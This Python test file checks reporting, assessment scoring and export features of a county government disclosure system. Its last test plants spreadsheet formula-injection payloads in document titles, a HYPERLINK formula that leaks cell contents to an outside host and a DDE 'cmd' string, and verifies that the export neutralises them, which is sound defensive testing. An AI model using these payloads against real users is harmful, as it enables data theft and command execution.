"""Monthly report, circular and assessment: computed from the data, checked by hand."""

from __future__ import annotations

import io
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import httpx
from openpyxl import load_workbook

from api.models import DisclosureAttribute as Attr
from api.models import (
    Document,
    DocumentKind,
    DocumentStatus,
    DocumentVersion,
    OrganizationKind,
    Role,
    UnitKind,
    VersionStatus,
)
from api.services import units
from api.services.reports.assessment import gap_runs

from ..conftest import GraphQLClient
from ..documents_fixtures import credit, gid

SERIAL = iter(range(1, 100000))


async def publish_at(session: Any, org: Any, scope: str, when: datetime, title: str) -> None:
    """A document first published at ``when`` (test data; the workflow itself is tested elsewhere)."""
    doc = Document(kind=DocumentKind.GOVERNMENT_INFO, publisher_id=org.id, scope_path=scope, status=DocumentStatus.PUBLISHED,
                   public=True, index_no=f"T/{next(SERIAL):06d}", first_published_at=when, published_at=when)  # fmt: skip
    session.add(doc)
    await session.flush()
    version = DocumentVersion(document_id=doc.id, number=1, status=VersionStatus.PUBLISHED, title=title,
                              attribute=Attr.PROACTIVE, keywords=[], channels=[], published_at=when)  # fmt: skip
    session.add(version)
    await session.flush()
    doc.current_version_id = version.id


def mid(year: int, month: int, day: int = 15) -> datetime:
    return datetime(year, month, day, 3, 0, tzinfo=UTC)


async def county_with(session: Any, system: Any, names: list[str]) -> dict[str, Any]:
    await units.create_unit(session, system, code="513425000000", name="会理县", kind=UnitKind.XIAN)
    orgs = {}
    for i, name in enumerate(names):
        orgs[name] = await units.create_organization(session, system, unit_code="513425000000", name=name,
                                                     kind=OrganizationKind.DEPARTMENT, credit_code=credit(100 + i))  # fmt: skip
    return orgs


async def test_monthly_report_counts_match_the_inserted_data(
    gql: GraphQLClient, make_user: Any, session: Any, system: Any
) -> None:
    orgs = await county_with(session, system, ["县民政局", "县财政局"])
    civil, finance = orgs["县民政局"], orgs["县财政局"]
    inserted = [(civil, mid(2025, m), f"民政{m}月") for m in range(1, 13)] + [(civil, mid(2025, 6, 28), "民政6月二")]
    inserted += [(finance, mid(2025, 6), "财政6月")]
    for org, when, title in inserted:
        await publish_at(session, org, f"513425/org:{org.id}", when, title)
    await session.commit()
    office = await make_user("office", Role.DISTRICT_OFFICE, unit_code="513425000000")
    query = """query($o: ID!, $m: String!) { monthlyReport(organizationId: $o, month: $m) {
      month publishedThisMonth publishedThisYear allDisclosed items { indexNo title } } }"""
    report = (await gql.data(query, {"o": gid("Organization", civil.id), "m": "2025-06"}, office))["monthlyReport"]
    june = [t for o, w, t in inserted if o is civil and (w.year, w.month) == (2025, 6)]
    ytd = [t for o, w, t in inserted if o is civil and w.year == 2025 and w.month <= 6]
    assert report["publishedThisMonth"] == len(june) == 2
    assert report["publishedThisYear"] == len(ytd) == 7
    assert [i["title"] for i in report["items"]] == june and report["allDisclosed"] is True
    bad = await gql(query, {"o": gid("Organization", civil.id), "m": "2025/06"}, office)
    assert bad["errors"][0]["extensions"]["reason"] == "INVALID_MONTH"
    assert (await gql(query, {"o": gid("Organization", civil.id), "m": "2025-06"}))["errors"][0]["extensions"][
        "code"
    ] == "UNAUTHENTICATED"


CIRCULAR = """query($u: String!, $m: String!) { monthlyCircular(unitCode: $u, month: $m) { rows {
  rank organization { name } thisMonth previousMonth yearToDate noPublicationThisMonth twoMonthsWithout } } }"""


async def test_circular_flags_two_months_without_publication(
    gql: GraphQLClient, make_user: Any, session: Any, system: Any
) -> None:
    orgs = await county_with(session, system, ["甲局", "乙局"])
    for m in (1, 2, 5):
        await publish_at(session, orgs["甲局"], f"513425/org:{orgs['甲局'].id}", mid(2025, m), f"甲{m}")
    for m in (1, 2, 3, 4):
        await publish_at(session, orgs["乙局"], f"513425/org:{orgs['乙局'].id}", mid(2025, m), f"乙{m}")
    await session.commit()
    office = await make_user("office", Role.DISTRICT_OFFICE, unit_code="513425000000")
    april = {
        r["organization"]["name"]: r
        for r in (await gql.data(CIRCULAR, {"u": "513425000000", "m": "2025-04"}, office))["monthlyCircular"]["rows"]
    }
    assert april["甲局"]["twoMonthsWithout"] is True and april["甲局"]["noPublicationThisMonth"] is True
    assert april["乙局"]["twoMonthsWithout"] is False and april["乙局"]["rank"] == 1
    march = {
        r["organization"]["name"]: r
        for r in (await gql.data(CIRCULAR, {"u": "513425000000", "m": "2025-03"}, office))["monthlyCircular"]["rows"]
    }
    assert march["甲局"]["noPublicationThisMonth"] is True and march["甲局"]["twoMonthsWithout"] is False


def test_gap_runs_count_each_two_months_once() -> None:
    assert gap_runs([1, 0, 0, 1]) == 1
    assert gap_runs([1, 0, 1, 0, 1]) == 0
    assert gap_runs([0, 0, 0, 1]) == 1  # three months: one run
    assert gap_runs([0, 0, 0, 0, 1]) == 2  # four months: two runs
    assert gap_runs([1] * 6 + [0] * 6) == 3


ASSESS = """query($u: String!, $y: Int!) { assessment(unitCode: $u, year: $y) { organization { name } target published
  completion base factorPoints gapRuns deductionRate score factors { factor points } } }"""


async def test_assessment_scores_match_hand_computed_values(
    gql: GraphQLClient, make_user: Any, session: Any, system: Any
) -> None:
    orgs = await county_with(session, system, ["超额局", "欠额局", "断档局"])
    plan = {
        "超额局": list(range(1, 13)),
        "欠额局": [1, 2, 3, 4, 5, 6, 7, 8, 9, 11],
        "断档局": [1, 2, 5, 6, 7, 8, 9, 10, 11, 12],
    }
    for name, months in plan.items():
        for m in months:
            await publish_at(session, orgs[name], f"513425/org:{orgs[name].id}", mid(2025, m), f"{name}{m}")
    await session.commit()
    office = await make_user("office", Role.DISTRICT_OFFICE, unit_code="513425000000")
    target = "mutation($o: ID!, $c: Int!) { setAnnualTarget(organizationId: $o, year: 2025, count: $c) { count errors { code } } }"
    factor = """mutation($o: ID!, $f: String!, $p: Decimal!) { setAssessmentFactor(organizationId: $o, year: 2025, factor: $f,
      points: $p) { errors { code } } }"""
    for name, count in (("超额局", 10), ("欠额局", 20), ("断档局", 8)):
        assert (await gql.data(target, {"o": gid("Organization", orgs[name].id), "c": count}, office))[
            "setAnnualTarget"
        ]["errors"] == []
    for name, f, p in (("超额局", "EXCEEDING", "4"), ("超额局", "TIMELINESS", "3"), ("欠额局", "ACCURACY", "2")):
        assert (await gql.data(factor, {"o": gid("Organization", orgs[name].id), "f": f, "p": p}, office))[
            "setAssessmentFactor"
        ]["errors"] == []
    # An organization's approver writes its annual report, not its own target or score.
    own = await make_user("approver", Role.APPROVER, organization_id=orgs["欠额局"].id)
    for mutation, variables in ((target, {"o": gid("Organization", orgs["欠额局"].id), "c": 1}),
                                (factor, {"o": gid("Organization", orgs["欠额局"].id), "f": "ACCURACY", "p": "10"})):  # fmt: skip
        refused = await gql(mutation, variables, own)
        assert refused["errors"][0]["extensions"]["code"] == "FORBIDDEN", refused
    out_of_range = await gql.data(
        factor, {"o": gid("Organization", orgs["欠额局"].id), "f": "ACCURACY", "p": "11"}, office
    )
    assert out_of_range["setAssessmentFactor"]["errors"] == [{"code": "OUT_OF_RANGE"}]
    rows = {
        r["organization"]["name"]: r
        for r in (await gql.data(ASSESS, {"u": "513425000000", "y": 2025}, office))["assessment"]
    }
    # 超额局: 12 of 10 -> 90; + 4 + 3 -> 97; no gap.
    assert (rows["超额局"]["published"], Decimal(rows["超额局"]["base"]), Decimal(rows["超额局"]["score"])) == (
        12,
        Decimal("90"),
        Decimal("97"),
    )
    # 欠额局: 10 of 20 -> 45; + 2 -> 47; October and December empty but not in a row.
    assert (Decimal(rows["欠额局"]["completion"]), Decimal(rows["欠额局"]["score"]), rows["欠额局"]["gapRuns"]) == (
        Decimal("0.5"),
        Decimal("47"),
        0,
    )
    # 断档局: 10 of 8 -> 90; March and April empty -> one run, 5 %: 85.50.
    assert (rows["断档局"]["gapRuns"], Decimal(rows["断档局"]["deductionRate"]), Decimal(rows["断档局"]["score"])) == (
        1,
        Decimal("0.05"),
        Decimal("85.5"),
    )


async def test_circular_runs_constant_statements_and_exports(
    client: httpx.AsyncClient, gql: GraphQLClient, make_user: Any, session: Any, system: Any, statement_counter: Any
) -> None:
    orgs = await county_with(session, system, [f"单位{i:03d}" for i in range(10)])
    for org in list(orgs.values())[:5]:
        await publish_at(session, org, f"513425/org:{org.id}", mid(2025, 4), "四月")
    await session.commit()
    office = await make_user("office", Role.DISTRICT_OFFICE, unit_code="513425000000")

    async def count() -> tuple[int, list[dict[str, Any]]]:
        statement_counter.start()
        data = await gql.data(CIRCULAR, {"u": "513425000000", "m": "2025-04"}, office)
        return statement_counter.stop(), data["monthlyCircular"]["rows"]

    await count()  # the actor read and cached (api.auth.actor.ActorCache): later requests have it
    small, _ = await count()
    for i in range(10, 100):
        await units.create_organization(
            session, system, unit_code="513425000000", name=f"单位{i:03d}", kind=OrganizationKind.DEPARTMENT
        )
    large, table = await count()
    assert len(table) == 100 and small == large, statement_counter.statements

    response = await client.get("/exports/monthly-circular", params={"unitCode": "513425000000", "month": "2025-04"},
                                headers={"Authorization": f"Bearer {office}"})  # fmt: skip
    assert response.status_code == 200 and response.headers["content-disposition"].startswith("attachment;")
    sheet = load_workbook(io.BytesIO(response.content)).active
    exported = {sheet.cell(row=r, column=2).value: sheet.cell(row=r, column=3).value for r in range(3, 3 + len(table))}
    assert exported == {row["organization"]["name"]: row["thisMonth"] for row in table}
    assert (
        await client.get("/exports/monthly-circular", params={"unitCode": "513425000000", "month": "2025-04"})
    ).status_code == 401
    kiosk = await make_user("kiosk", Role.KIOSK, unit_code="513425000000")
    refused = await client.get("/exports/monthly-circular", params={"unitCode": "513425000000", "month": "2025-04"},
                               headers={"Authorization": f"Bearer {kiosk}"})  # fmt: skip
    assert refused.status_code == 403
    unknown = await client.get("/exports/nope", headers={"Authorization": f"Bearer {office}"})
    assert unknown.status_code == 400
    # Every export honours format, or refuses one it is not made in.
    md = await client.get("/exports/monthly-circular", params={"unitCode": "513425000000", "month": "2025-04",
                          "format": "md"}, headers={"Authorization": f"Bearer {office}"})  # fmt: skip
    assert md.status_code == 200 and md.headers["content-type"].startswith("text/markdown")
    text = md.content.decode("utf-8")
    assert (
        text.startswith("# ")
        and "| 排名 | 单位 |" in text
        and all(row["organization"]["name"] in text for row in table)
    )
    for name, params in (("monthly-circular", {"unitCode": "513425000000", "month": "2025-04"}),
                         ("assessment", {"unitCode": "513425000000", "year": "2025"})):  # fmt: skip
        odd = await client.get(f"/exports/{name}", params={**params, "format": "pdf"},
                               headers={"Authorization": f"Bearer {office}"})  # fmt: skip
        assert odd.status_code == 400 and "pdf" in odd.text, (name, odd.text)
    assessment_md = await client.get("/exports/assessment", params={"unitCode": "513425000000", "year": "2025",
                                     "format": "md"}, headers={"Authorization": f"Bearer {office}"})  # fmt: skip
    assert assessment_md.status_code == 400 and "xlsx" in assessment_md.text


async def test_months_are_counted_in_china_time(gql: GraphQLClient, make_user: Any, session: Any, system: Any) -> None:
    orgs = await county_with(session, system, ["县民政局"])
    civil = orgs["县民政局"]
    # 2025-06-30 17:00 UTC is 1 July 01:00 in China: a July publication.
    await publish_at(session, civil, f"513425/org:{civil.id}", datetime(2025, 6, 30, 17, 0, tzinfo=UTC), "七月初")
    await session.commit()
    office = await make_user("office", Role.DISTRICT_OFFICE, unit_code="513425000000")
    query = "query($o: ID!, $m: String!) { monthlyReport(organizationId: $o, month: $m) { publishedThisMonth } }"
    june = await gql.data(query, {"o": gid("Organization", civil.id), "m": "2025-06"}, office)
    july = await gql.data(query, {"o": gid("Organization", civil.id), "m": "2025-07"}, office)
    assert (june["monthlyReport"]["publishedThisMonth"], july["monthlyReport"]["publishedThisMonth"]) == (0, 1)


async def test_a_title_that_looks_like_a_formula_is_exported_as_text(
    client: httpx.AsyncClient, make_user: Any, session: Any, system: Any
) -> None:
    # An attacker's title: in Excel, a live formula would show a link that leaks the sheet's cells.
    title = '=HYPERLINK("http://example.com"&A1,"点击查看")'
    orgs = await county_with(session, system, ["县民政局"])
    org = orgs["县民政局"]
    await publish_at(session, org, f"513425/org:{org.id}", mid(2025, 4), title)
    await publish_at(session, org, f"513425/org:{org.id}", mid(2025, 4, 16), "@SUM(1+1)*cmd|' /C calc'!A0")
    await session.commit()
    office = await make_user("office", Role.DISTRICT_OFFICE, unit_code="513425000000")
    response = await client.get("/exports/monthly-report", params={"organizationId": str(org.id), "month": "2025-04"},
                                headers={"Authorization": f"Bearer {office}"})  # fmt: skip
    assert response.status_code == 200, response.text
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (title, "@SUM(1+1)*cmd|' /C calc'!A0"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
